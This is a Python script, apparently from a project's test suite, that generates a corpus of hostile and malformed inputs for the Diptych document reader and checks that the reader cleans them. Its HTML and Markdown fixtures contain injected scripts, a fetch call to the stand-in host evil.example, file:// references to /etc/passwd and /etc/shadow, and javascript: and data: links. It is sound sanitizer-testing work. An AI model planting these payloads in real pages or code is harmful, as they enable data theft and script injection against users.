"""Generate the hostile and broken input corpus (issue 6) into a directory.

    python tests/data/hostile/make_corpus.py OUTDIR            # write the files
    python tests/data/hostile/make_corpus.py OUTDIR --check    # and load each, print outcomes

Each case is a file and the outcome Diptych must give for it: ``"ok"`` (opens, and the clean
text contains every string of ``must_contain`` and none of ``must_not_contain``) or ``"error"``
(a one-line message containing ``message``). Large cases are generated, never committed.
"""

from __future__ import annotations

import codecs
import random
import sys
from dataclasses import dataclass, field
from pathlib import Path

PROSE = (
    "The committee met on Tuesday to review the proposal. Members asked for more detail on "
    "the cost, and the chair agreed to circulate the figures before the next meeting. "
)


@dataclass(frozen=True)
class Case:
    name: str
    filename: str  # relative to the corpus directory ("" for a path that must not exist)
    outcome: str  # "ok" | "error"
    message: str = ""  # for errors: a fragment of the one-line message
    must_contain: tuple[str, ...] = ()
    must_not_contain: tuple[str, ...] = ()
    encoding: str = ""  # for "ok": the encoding meta.encoding must report (prefix match)
    styles_urls_only_safe: bool = False
    notes: str = ""
    extra: dict[str, object] = field(default_factory=dict)


def _nested_html(depth: int) -> str:
    return (
        "<!DOCTYPE html><html><head><title>Deep</title></head><body>"
        + "<div><span>" * (depth // 2)
        + "<p>Deep inside thirty thousand elements, this sentence is still the article.</p>"
        + "</span></div>" * (depth // 2)
        + f"<p>{PROSE}</p></body></html>"
    )


def _nested_tables(depth: int) -> str:
    inner = "<p>The innermost cell says the tables were nested thirty deep.</p>"
    for i in range(depth):
        inner = f"<table><tr><td>level {depth - i}</td><td>{inner}</td></tr></table>"
    return f"<!DOCTYPE html><html><body><p>{PROSE}</p>{inner}<p>{PROSE}</p></body></html>"


def _big_table(rows: int) -> str:
    body = "".join(
        f"<tr><td>row {i}</td><td>{i * 7 % 1000}</td><td>item {i}</td></tr>" for i in range(rows)
    )
    return (
        "<!DOCTYPE html><html><body><h1>Quarterly figures</h1>"
        f"<p>{PROSE}</p><table><tr><th>Row</th><th>Value</th><th>Item</th></tr>{body}</table>"
        "</body></html>"
    )


HOSTILE_HTML = """<!DOCTYPE html>
<html><head>
<meta charset="utf-8">
<title>Council approves the new library</title>
<base href="file:///etc/">
<link rel="stylesheet" href="file:///etc/passwd">
<link rel="stylesheet" href="https://evil.example/track.css">
<script>document.title = "SCRIPT-RAN"; fetch("https://evil.example/steal");</script>
<style>@import url("https://evil.example/x.css"); body { background: url(file:///etc/shadow) }</style>
</head>
<body onload="alert('ONLOAD-RAN')">
<h1>Council approves the new library</h1>
<p>The council approved the new library on Monday. Construction starts in the spring and the
building should open in two years, the mayor said.</p>
<iframe src="https://evil.example/frame">IFRAME-TEXT</iframe>
<p>Plans show <img src="https://evil.example/pixel.gif" alt="REMOTE-IMG"> a reading room and
<img src="file:///etc/passwd" alt="FILE-IMG"> a children's floor. The
<a href="javascript:alert('JS-LINK')">design</a> was chosen from
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">twelve entries</a>, and
the <a href="https://library.example.org/plans">full plans</a> are online.</p>
<object data="file:///etc/passwd">OBJECT-TEXT</object>
<embed src="https://evil.example/flash.swf">
<svg><script>alert("SVG-SCRIPT")</script><text>SVG-TEXT</text></svg>
<noscript>NOSCRIPT-TEXT</noscript>
<form action="https://evil.example/post"><input value="INPUT-VALUE"><button>BUTTON-TEXT</button></form>
<p onclick="alert('CLICK')">Residents can see the model in the town hall until the end of the
month, and comments are welcome by post or e-mail.</p>
<script src="file:///etc/passwd"></script>
</body></html>
"""

MARKDOWN_RAW_HTML = """# Markdown with raw HTML

The first paragraph is ordinary prose, with **bold** words and a [safe link](https://example.org/ok).

<script>alert("MD-SCRIPT")</script>

<div onclick="alert('MD-ONCLICK')"><p>A paragraph inside a raw <b>div</b>, which should read as prose.</p></div>

<iframe src="https://evil.example/">MD-IFRAME</iframe>

The second paragraph has <b>inline HTML bold</b>, an <a href="javascript:alert(1)">unsafe link</a>,
a <a href="https://example.org/fine">fine link</a> and an image ![pixel](file:///etc/passwd) that is dropped.

<img src="https://evil.example/pixel.gif" onerror="alert('MD-ONERROR')">

Closing words of the document, kept as they are.
"""

RTL = (
    "مرحبا بالعالم. هذا نص عربي قصير لاختبار الكتابة من اليمين إلى اليسار، وهو يحتوي على "
    "جملتين كاملتين.\n\n"
    "שלום עולם. זהו טקסט בעברית לבדיקת כיוון כתיבה מימין לשמאל.\n\n"
    "Mixed line: the word سلام and the word שלום sit inside English text.\n"
)
COMBINING = (
    "Cafe\u0301 and nai\u0308ve are written with combining marks here.\n\n"
    "Tiếng Việt có nhiều dấu: Hà Nội, Huế và Thành phố Hồ Chí Minh.\n\n"
    "Z\u0351\u0352a\u0353\u0354l\u0355\u0356g\u0357\u0358o text stacks marks: "
    "a\u0300\u0301\u0302\u0303\u0304 is one letter.\n"
)
EMOJI = (
    "# Emoji 😀 in a title\n\n"
    "A family 👩‍👩‍👧‍👦, a flag 🇧🇴, a thumbs-up with skin tone 👍🏽 and a heart ❤️ "
    "sit in one sentence. Another sentence follows 🎉.\n\n"
    "Characters outside the BMP, like 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 and 𓂀, are kept too.\n"
)
ZERO_WIDTH = (
    "Zero\u200bwidth space, non\u200cjoiner, joiner\u200d, word\u2060joiner and a "
    "soft\u00adhyphen are all kept in this sentence.\n\n"
    "A second paragraph with a zero-width no-break space\ufeffinside.\n"
)


def build(out: Path, *, write: bool = True) -> list[Case]:
    """Write the corpus into ``out`` and return its cases (``write=False``: only the cases)."""
    if write:
        out.mkdir(parents=True, exist_ok=True)
    rng = random.Random(20191113)
    cases: list[Case] = []

    def add(case: Case, data: bytes | None) -> None:
        if data is not None and write:
            (out / case.filename).write_bytes(data)
        cases.append(case)

    add(
        Case("binary", "binary.txt", "error", message="binary"),
        bytes(rng.randrange(256) for _ in range(4096)),
    )
    add(
        Case("png disguised as text", "picture.txt", "error", message="PNG image"),
        b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(512)),
    )
    add(
        Case("NUL bytes in text", "nul-bytes.txt", "error", message="NUL bytes"),
        (PROSE * 3).encode() + b"\x00\x00" + PROSE.encode(),
    )
    add(
        Case(
            "mostly control characters", "controls.txt", "error", message="does not look like text"
        ),
        bytes(
            rng.choice(b"\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10\x11\x1b") for _ in range(400)
        )
        + b" a few letters",
    )
    broken = ("Überall Grüße: " + PROSE + " Ça va très bien, merci. ").encode() * 3
    broken = broken[:40] + b"\xff\xfe\xc3" + broken[40:200] + b"\xe2\x82" + broken[200:]
    add(
        Case(
            "invalid UTF-8 (a few broken bytes)",
            "invalid-utf8.txt",
            "ok",
            must_contain=("Grüße", "Ça va très bien", "\ufffd"),
            encoding="utf-8",
        ),
        broken,
    )
    add(
        Case(
            "cp1252",
            "cp1252.txt",
            "ok",
            must_contain=("Café crème", "“quoted”", "€5", "naïve"),
            encoding="cp1252",
        ),
        ("Café crème costs €5 – a “quoted” price for a naïve buyer. " + PROSE).encode("cp1252"),
    )
    add(
        Case(
            "short Latin-1 (detectors call it UTF-16)",
            "latin1-short.txt",
            "ok",
            must_contain=("Déjà vu",),
            encoding="cp1252",
        ),
        "Déjà vu.".encode("latin-1"),
    )
    add(
        Case(
            "UTF-16 LE with BOM",
            "utf16le-bom.txt",
            "ok",
            must_contain=("Grüße aus Köln", "The committee met"),
            encoding="utf-16",
        ),
        codecs.BOM_UTF16_LE + ("Grüße aus Köln.\n\n" + PROSE).encode("utf-16-le"),
    )
    add(
        Case(
            "UTF-16 BE with BOM",
            "utf16be-bom.md",
            "ok",
            must_contain=("Σύνταγμα", "The committee met"),
            encoding="utf-16",
        ),
        codecs.BOM_UTF16_BE + ("# Σύνταγμα\n\n" + PROSE).encode("utf-16-be"),
    )
    add(
        Case(
            "UTF-8 with BOM",
            "utf8-bom.md",
            "ok",
            must_contain=("Title line", "# is a hash sign here, not a heading marker."),
            encoding="utf-8",
        ),
        codecs.BOM_UTF8
        + b"Title line\n\n"
        + PROSE.encode()
        + b"\n\n\\# is a hash sign here, not a heading marker.\n",
    )
    add(
        Case(
            "HTML with a meta charset",
            "meta-charset.html",
            "ok",
            must_contain=("Żółć", "The committee met"),
            encoding="iso8859-2",
        ),
        (
            '<html><head><meta charset="iso-8859-2"><title>Żółć</title></head><body>'
            f"<h1>Żółć</h1><p>{PROSE}</p></body></html>"
        ).encode("iso-8859-2"),
    )
    add(Case("empty", "empty.txt", "error", message="is empty"), b"")
    add(
        Case("whitespace only", "whitespace.md", "error", message="only whitespace"),
        b" \n\t\n\r\n   \n" * 50,
    )
    add(
        Case(
            "one 5 MB line",
            "one-line-5mb.txt",
            "ok",
            must_contain=("The committee met", "next meeting."),
        ),
        (PROSE * (5_000_000 // len(PROSE) + 1)).encode()[:5_000_000],
    )
    # 50 MB: refused by the stated size limit before anything is read
    big = out / "fifty-mb.txt"
    if write:
        with open(big, "wb") as fh:
            chunk = (PROSE + "\n\n").encode() * 4000
            written = 0
            while written < 50_000_000:
                fh.write(chunk)
                written += len(chunk)
    cases.append(Case("50 MB text", big.name, "error", message="too large"))
    add(
        Case(
            "HTML with script, iframe, remote and file:// resources, javascript:/data: links",
            "hostile.html",
            "ok",
            must_contain=(
                "The council approved the new library on Monday.",
                "full plans",
                "Residents can see the model",
            ),
            must_not_contain=(
                "SCRIPT-RAN",
                "fetch(",
                "IFRAME-TEXT",
                "REMOTE-IMG",
                "FILE-IMG",
                "OBJECT-TEXT",
                "SVG-SCRIPT",
                "NOSCRIPT-TEXT",
                "INPUT-VALUE",
                "BUTTON-TEXT",
                "alert",
                "@import",
            ),
            styles_urls_only_safe=True,
        ),
        HOSTILE_HTML.encode(),
    )
    add(
        Case(
            "30,000 nested elements",
            "nested-30000.html",
            "ok",
            must_contain=(
                "Deep inside thirty thousand elements, this sentence is still the article.",
                "The committee met",
            ),
            notes="read as a stream of tags: no tree, so no depth limit and no recursion",
        ),
        _nested_html(30_000).encode(),
    )
    add(
        Case(
            "tables nested 30 deep",
            "nested-tables-30.html",
            "ok",
            must_contain=("level 1", "level 30", "nested thirty deep", "The committee met"),
        ),
        _nested_tables(30).encode(),
    )
    add(
        Case(
            "2,000-row table",
            "table-2000-rows.html",
            "ok",
            must_contain=("row 0 | 0 | item 0", "row 1999 |", "The committee met"),
        ),
        _big_table(2000).encode(),
    )
    add(
        Case(
            "Markdown with raw HTML",
            "raw-html.md",
            "ok",
            must_contain=(
                "The first paragraph is ordinary prose",
                "A paragraph inside a raw div",
                "inline HTML bold",
                "fine link",
                "Closing words of the document",
            ),
            must_not_contain=("MD-SCRIPT", "MD-ONCLICK", "MD-IFRAME", "MD-ONERROR", "<", "alert"),
            styles_urls_only_safe=True,
        ),
        MARKDOWN_RAW_HTML.encode(),
    )
    add(
        Case(
            "right-to-left text",
            "rtl.txt",
            "ok",
            must_contain=tuple(p.strip() for p in RTL.split("\n\n")),
        ),
        RTL.encode(),
    )
    add(
        Case(
            "combining marks",
            "combining.txt",
            "ok",
            must_contain=tuple(p.strip() for p in COMBINING.split("\n\n")),
        ),
        COMBINING.encode(),
    )
    add(
        Case(
            "emoji",
            "emoji.md",
            "ok",
            must_contain=("Emoji 😀 in a title", "👩‍👩‍👧‍👦", "🇧🇴", "👍🏽", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 and 𓂀"),
        ),
        EMOJI.encode(),
    )
    add(
        Case(
            "zero-width characters",
            "zero-width.txt",
            "ok",
            must_contain=(
                "Zero\u200bwidth space, non\u200cjoiner, joiner\u200d, word\u2060joiner",
                "soft\u00adhyphen",
                "space\ufeffinside",
            ),
        ),
        ZERO_WIDTH.encode(),
    )
    add(
        Case(
            "Markdown quotes nested 5,000 deep",
            "deep-quotes.md",
            "ok",
            must_contain=("bottom of the well",),
        ),
        (">" * 5000 + " The bottom of the well is reached.\n\n" + PROSE + "\n").encode(),
    )
    add(
        Case(
            "100,000 unmatched emphasis markers",
            "emphasis-storm.md",
            "ok",
            must_contain=("The committee met",),
        ),
        (PROSE + "\n\n" + "*a _b " * 100_000 + "\n\n" + PROSE + "\n").encode(),
    )
    add(
        Case(
            "200,000 paragraphs split mid-sentence (each rejoined to the last)",
            "split-fragments.txt",
            "ok",
            must_contain=("fragment 0 of a sentence fragment 1 of a sentence",),
        ),
        ("\n\n".join(f"fragment {i} of a sentence" for i in range(200_000)) + ".\n").encode(),
    )
    add(
        Case(
            "100,000 unclosed inline HTML tags in Markdown",
            "unclosed-tags.md",
            "ok",
            must_contain=("The committee met",),
        ),
        (PROSE + "\n\n" + "<b>x <i>" * 100_000 + "\n\n" + PROSE + "\n").encode(),
    )
    if write:
        (out / "a-directory.md").mkdir(exist_ok=True)
    cases.append(Case("a directory", "a-directory.md", "error", message="is a directory"))
    cases.append(Case("a missing file", "does-not-exist.txt", "error", message="no such file"))
    return cases


def check(out: Path, cases: list[Case]) -> int:
    """Load every case with Diptych and print what it gave (for issue 6's closing note)."""
    import time

    from diptych.core.errors import ArticleError
    from diptych.core.reading.articles import load_article

    failures = 0
    for case in cases:
        t0 = time.perf_counter()
        try:
            art = load_article(out / case.filename)
            missing = [s for s in case.must_contain if s not in art.text]
            leaked = [s for s in case.must_not_contain if s in art.text]
            got = "ok"
            detail = (
                f"opened: {len(art.blocks)} blocks, {len(art.text)} chars, "
                f"read as {art.meta.encoding}"
            )
            if missing or leaked:
                detail += f"; missing {missing}, leaked {leaked}"
                got = "wrong"
        except ArticleError as exc:
            got, detail = "error", str(exc).replace(str(out) + "/", "")
        secs = time.perf_counter() - t0
        good = got == case.outcome and (got != "error" or case.message in detail)
        failures += not good
        print(f"{'PASS' if good else 'FAIL'}  {secs:5.2f}s  {case.name}: {detail}")
    return 1 if failures else 0


def main(argv: list[str]) -> int:
    args = [a for a in argv if a != "--check"]
    if len(args) != 1:
        print("usage: make_corpus.py OUTDIR [--check]", file=sys.stderr)
        return 2
    out = Path(args[0])
    cases = build(out)
    if "--check" in argv:
        return check(out, cases)
    for case in cases:
        print(f"{case.outcome:5}  {case.filename:28}  {case.name}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
